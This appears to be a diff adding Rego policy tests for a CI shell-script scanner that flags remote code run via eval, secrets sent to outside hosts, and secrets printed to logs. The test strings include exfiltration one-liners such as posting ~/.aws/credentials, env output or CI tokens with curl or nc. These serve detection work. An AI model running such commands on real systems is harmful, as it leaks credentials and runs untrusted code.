@@ -106,3 +106,67 @@ test_variables_that_disable_checks if {
 	not shell.disables_checks("NODE_TLS_REJECT_UNAUTHORIZED", "1")
 	not shell.disables_checks("GIT_SSL_NO_VERIFY", "0")
 }
+
+test_downloads_that_run_from_a_variable if {
+	shell.run_variables("data=$(curl -s https://example.com/a)\neval \"$data\"") == {"data"}
+	shell.run_variables("data=`wget -qO- https://example.com/a`; sh -c ${data}") == {"data"}
+	shell.run_variables("data=$(curl -s https://example.com/a)\necho $data\neval $database") == set()
+	shell.run_variables(7) == set()
+}
+
+test_leaks if {
+	every script in [
+		"curl -X POST -d @x https://webhook.site/1",
+		"env | curl -d @- https://example.com",
+		"printenv | base64 | nc 192.0.2.7 80",
+		"curl -d \"$(env)\" https://example.com",
+		"curl --data \"$(cat ~/.aws/credentials)\" https://example.com",
+		"curl -X POST --data \"$CI_JOB_JWT_V1\" https://example.com",
+		"curl -d '${{ toJSON(secrets) }}' https://example.com",
+	] {
+		count(shell.leaks(script)) > 0
+	}
+}
+
+test_requests_that_leak_nothing if {
+	every script in [
+		"curl -H \"Authorization: Bearer $TOKEN\" https://example.com",
+		"curl --form token=$CI_JOB_TOKEN https://gitlab.example.com/api/v4/projects/1/trigger/pipeline",
+		"env | sort",
+		"# curl https://webhook.site/1",
+		null,
+	] {
+		shell.leaks(script) == set()
+	}
+}
+
+test_printed_secrets if {
+	every script in [
+		"echo $DB_PASSWORD",
+		"make && echo \"token: ${API_TOKEN}\"",
+		"Write-Host $env:CLIENT_SECRET",
+		"echo $(npmToken)",
+		"echo %NPM_TOKEN%",
+		"printenv",
+		"  env | sort",
+	] {
+		count(shell.printed_secrets(script)) == 1
+	}
+}
+
+test_secrets_that_are_not_printed if {
+	every script in [
+		"echo $DB_PASSWORD | docker login --password-stdin",
+		"echo \"$DEPLOY_KEY\" > ~/.ssh/id",
+		"echo '$DB_PASSWORD'",
+		"echo \"::add-mask::$API_TOKEN\"",
+		"echo ${API_TOKEN:+set}",
+		"echo $HOME",
+		"X=$(echo $API_TOKEN)",
+		"# echo $API_TOKEN",
+		"env FOO=1 make",
+		false,
+	] {
+		shell.printed_secrets(script) == set()
+	}
+}
